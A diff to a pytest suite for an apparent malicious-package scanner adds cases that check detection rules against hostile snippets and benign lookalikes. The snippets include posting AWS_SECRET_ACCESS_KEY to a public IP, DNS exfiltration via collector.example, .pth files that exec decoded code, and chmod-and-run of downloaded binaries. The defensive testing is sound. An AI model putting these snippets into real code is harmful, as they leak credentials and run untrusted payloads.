@@ -247,6 +247,8 @@ def test_pth_file_with_code_is_evidence():
     """A .pth file line starting with "import" runs at every interpreter start: evidence."""
     result = run_precheck(new_file("evil.pth", "import os; exec(os.environ.get('X', ''))"), POLICY)
     assert "mp.hook.pth-code" in {e.rule_id for e in result.evidence}
+    literal = run_precheck(new_file("cov.pth", "import sys; exec('import cov; cov.start()')"), POLICY)
+    assert {e.rule_id for e in literal.evidence} == {"mp.hook.pth-exec"}
 
 
 def test_encoded_payload_in_an_added_line_is_decoded():
@@ -386,12 +388,137 @@ def test_loopback_and_private_addresses_are_not_raw_ip_evidence(body):
     assert "mp.beacon.raw-ip" not in {e.rule_id for e in result.evidence}
 
 
-def test_an_environment_secret_posted_to_a_public_address_makes_the_rules_detector_vote():
-    """Posting an environment secret to a hard-coded public IP reaches the vote, not the block."""
+def test_an_environment_secret_posted_to_a_public_address_is_blocked():
+    """Posting an environment secret in a request to a literal public IP URL blocks."""
     body = 'requests.post("http://45.33.20.1/c", data={"k": os.getenv("AWS_SECRET_ACCESS_KEY")})'
     result = run_precheck(new_file("pkg/a.py", body), POLICY)
-    assert {"mp.creds.secret-sent", "mp.beacon.raw-ip"} <= {e.rule_id for e in result.evidence}
+    assert {"mp.creds.secret-sent", "mp.beacon.raw-ip", "mp.exfil.ip-request"} <= {
+        e.rule_id for e in result.evidence
+    }
+    assert result.verdict == "harmful"
+
+
+def test_a_request_to_a_literal_ip_url_makes_the_rules_detector_vote():
+    """A request straight to a hard-coded IP URL is a vote (a beacon), not a block by itself."""
+    result = run_precheck(new_file("pkg/a.py", 'requests.post("http://1.1.1.1", data={"c": creds})'), POLICY)
+    assert "mp.exfil.ip-request" in {e.rule_id for e in result.evidence}
     assert result.verdict == "harmless" and result.score >= 0.5 * POLICY.precheck.block_score
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        '        >>> s.get("https://93.184.216.34", headers={"Host": "example.org"})',
+        '# mirror: requests.get("http://45.33.20.1/pkg")',
+        'r = requests.get("http://192.168.1.20/status")',
+    ],
+)
+def test_ip_urls_in_doctests_comments_or_private_ranges_are_no_vote(body):
+    """Doctest lines, comments and private addresses are not a beacon to a bare server."""
+    result = run_precheck(new_file("pkg/net.py", body), POLICY)
+    assert not {"mp.exfil.ip-request", "mp.beacon.raw-ip", "mp.beacon.public-ip"} & {
+        e.rule_id for e in result.evidence
+    }
+
+
+@pytest.mark.parametrize(
+    ("path", "body", "rule"),
+    [
+        ("index.js", "const h = Reflect.get(os, 'hostname')();", "mp.exec.js-reflect-core"),
+        (
+            "index.js",
+            "Object.getOwnPropertyDescriptor(child_process, 'exec').value('id');",
+            "mp.exec.js-reflect-core",
+        ),
+        ("index.js", "os[Object.keys(os).find(k => k === 'userInfo')]();", "mp.exec.js-reflect-core"),
+        (
+            "index.js",
+            "Object.entries(os).filter(([k]) => k === 'hostname')[0][1]();",
+            "mp.exec.js-reflect-core",
+        ),
+        ("index.js", "os['host' + 'name']();", "mp.exec.js-reflect-core"),
+        ("pkg/a.py", 'os.system(base64.b64decode("aWQ="))', "mp.exec.decoded-process"),
+        ("main.go", "c := exec.Command(string(decoded))", "mp.exec.decoded-process"),
+    ],
+)
+def test_reflective_core_calls_and_decoded_commands_block_alone(path, body, rule):
+    """Node core APIs reached by reflection and commands run straight from decoded bytes block alone."""
+    result = run_precheck(new_file(path, body), POLICY)
+    assert result.verdict == "harmful"
+    assert rule in {e.rule_id for e in result.evidence}
+
+
+@pytest.mark.parametrize(
+    ("path", "body", "rule"),
+    [
+        ("pkg/a.py", "exec(decode(blob))", "mp.exec.decoded-name"),
+        ("pkg/a.py", "eval(decryptedSource)", "mp.exec.decoded-name"),
+        ("main.go", 'os.Chmod("/tmp/agent", 0755)\nexec.Command("/tmp/agent").Run()', "mp.exec.chmod-run"),
+        ("pkg/run.py", "os.chmod(path, 0o755)\nsubprocess.Popen([path])", "mp.exec.chmod-run"),
+        (
+            "main.go",
+            'f, _ := os.OpenFile("/tmp/agent", os.O_CREATE|os.O_WRONLY, 0755)\nio.Copy(f, resp.Body)',
+            "mp.exec.go-save-download",
+        ),
+        (
+            "main.go",
+            'cmd := &exec.Cmd{Path: sh, Args: []string{sh, "-c", string(sDec)}}',
+            "mp.exec.go-decoded-cmd",
+        ),
+        (
+            "lib/pkg.rb",
+            "HTTParty.post(URL, body: ENV['AWS_SECRET_ACCESS_KEY'])",
+            "mp.exfil.secret-post-ruby-go",
+        ),
+        (
+            "main.go",
+            'http.Post("http://collector.example/x", "text/plain", body)',
+            "mp.exfil.secret-post-ruby-go",
+        ),
+        ("pkg/a.py", 'socket.gethostbyname_ex(f"{user}.collector.example")', "mp.beacon.dns-interpolated"),
+        ("pkg/a.py", 'dns_resolver.resolve(f"{data}.collector.example", "A")', "mp.beacon.dns-interpolated"),
+        ("main.go", 'net.LookupHost(encoded + ".collector.example")', "mp.beacon.dns-interpolated"),
+        ("pkg/a.py", "total = 1\u202e + 2", "mp.obfuscation.bidi-control"),
+    ],
+)
+def test_decoded_exec_dropped_binaries_and_exfil_make_the_rules_detector_vote(path, body, rule):
+    """exec of decoded values, chmod-and-run, secrets posted from Ruby/Go, DNS labels and bidi controls vote."""
+    result = run_precheck(new_file(path, body), POLICY)
+    assert rule in {e.rule_id for e in result.evidence}
+    assert result.score >= 0.5 * POLICY.precheck.block_score
+
+
+@pytest.mark.parametrize(
+    ("path", "body"),
+    [
+        (
+            "pkg/model.py",
+            "decoded = base64.b64decode(blob)\nprediction = model.eval(decoded)\ncursor.exec(decoded)",
+        ),
+        ("index.js", "const u = new (require('u' + 'rl').URL)('file:' + __filename).href;"),
+        ("index.js", "const keys = Object.keys(process.env).filter((k) => k.startsWith('APP_'));"),
+        ("index.js", "spawn(cmd, args, { env: process.env, stdio: 'inherit' });"),
+        ("main.go", 'resp, _ := http.Get(url)\nf, _ := os.Create("/tmp/cache.bin")\nio.Copy(f, resp.Body)'),
+        ("pkg/a.py", "os.chmod(path, 0o644)"),
+        ("setup.py", "# build with -O0 and no LD_PRELOAD of a sanitizer runtime"),
+        ("lib/completion.js", "# Installation: {{app_path}} completion >> ~/.bashrc"),
+        ("pkg/user.py", "#   2. Logged in as root: os.getlogin() == 'root'"),
+        (
+            "a1_cov.pth",
+            "import sys; exec('import os\\nif os.getenv(\"COV\"): import cov; cov.process_startup()')",
+        ),
+        ("pkg/a.py", "label = '\u05e9\u05dc\u05d5\u05dd\u200f'"),
+    ],
+)
+def test_lookalikes_of_the_new_rules_stay_below_the_vote(path, body):
+    """Method calls named eval/exec, bundler shims, env filters, plain downloads and comments don't vote."""
+    assert run_precheck(new_file(path, body), POLICY).score < 0.5 * POLICY.precheck.block_score
+
+
+def test_pth_file_running_decoded_code_is_evidence():
+    """A .pth import line that decodes or fetches what it runs is the strong .pth rule."""
+    result = run_precheck(new_file("x.pth", "import base64; exec(base64.b64decode(P))"), POLICY)
+    assert "mp.hook.pth-code" in {e.rule_id for e in result.evidence}
 
 
 def test_a_dll_built_by_a_compiler_command_is_not_side_loading():
